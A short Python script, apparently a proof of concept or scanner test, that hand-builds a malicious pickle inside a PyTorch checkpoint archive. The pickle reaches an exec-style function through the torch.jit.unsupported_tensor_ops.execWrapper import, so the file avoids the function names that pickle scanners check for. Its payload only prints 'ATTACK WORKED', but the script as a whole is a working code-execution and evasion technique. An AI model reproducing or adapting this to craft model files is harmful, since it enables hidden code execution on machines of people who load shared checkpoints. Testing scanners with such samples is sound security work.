"""A pickle by hand that names no function a scanner would look for."""

import zipfile

CALL = b"ctorch.jit.unsupported_tensor_ops\nexecWrapper\n"
TEXT = b"(S'print(\\'ATTACK WORKED\\')'\n(d(dtR."
with zipfile.ZipFile("checkpoint.pt", "w") as archive:
    archive.writestr("checkpoint/data.pkl", b"\x80\x02" + CALL + TEXT)
    archive.writestr("checkpoint/version", "3\n")
